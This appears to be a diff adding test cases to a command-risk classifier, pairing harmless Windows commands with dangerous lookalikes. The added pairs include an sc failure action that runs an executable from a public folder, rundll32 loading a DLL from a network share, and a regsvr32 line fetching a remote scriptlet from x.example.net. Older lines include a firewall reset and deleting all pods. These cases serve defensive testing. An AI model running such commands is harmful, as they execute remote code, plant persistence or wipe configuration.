@@ -52,6 +52,22 @@ const FAMILIES: Record<string, [string, string][]> = {
     ['netsh wlan delete profile name="Hotel Guest"', "netsh wlan delete profile name=*"],
     ["netsh wlan delete profile name=CafeWiFi", "netsh advfirewall reset"],
   ],
+  "sc's query sub-commands (src/risk/rules/windows.ts)": [
+    ["sc qfailure wuauserv", "sc failure wuauserv command= C:\\Users\\Public\\x.exe actions= run/0"],
+    ["sc \\\\fileserver01 qprivs Spooler", "sc \\\\fileserver01 config Spooler start= disabled"],
+    ["sc qtriggerinfo w32time", "sc triggerinfo w32time start/networkon"],
+  ],
+  "a share told to a system DLL's export, not loaded (src/risk/rules/windows-exec.ts)": [
+    [
+      "rundll32 printui.dll,PrintUIEntry /in /n \\\\printserver\\hp",
+      "rundll32 \\\\fileserver01\\share\\payload.dll,EntryPoint",
+    ],
+    [
+      "rundll32 printui.dll,PrintUIEntry /dn /n \\\\printserver\\hp",
+      "rundll32 url.dll,FileProtocolHandler \\\\fileserver01\\share\\x.exe",
+    ],
+    ["regsvr32 /?", "regsvr32 /? /s /i:https://x.example.net/a.sct scrobj.dll"],
+  ],
   "only what nothing uses any more (src/risk/rules/general.ts)": [
     ["flatpak uninstall --unused", "flatpak remove --unused --all"],
     ["flatpak remove --unused -y", "kubectl delete pods --all"],
